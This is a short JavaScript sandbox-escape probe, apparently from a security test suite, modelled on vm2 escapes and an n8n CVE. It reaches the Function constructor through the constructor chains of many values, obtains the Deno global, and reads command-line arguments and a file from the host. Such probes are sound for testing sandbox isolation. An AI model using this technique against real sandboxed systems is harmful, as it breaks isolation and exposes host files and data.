// Tries: the Function constructor through any object's constructor, and the platform through its global scope.
// Origin: vm2's first escapes (2016); n8n CVE-2025-68613.

const loot = (D) => [D.args, D.readTextFileSync(input.file)];

const found = [];
for (const start of [{}, [], "", 1, true, /x/, () => {}, Symbol.iterator, input, tools.echo, 1n]) {
  try {
    found.push(loot(start.constructor.constructor("return Deno")()));
  } catch (error) {
    found.push(`${error}`);
  }
}
return found;
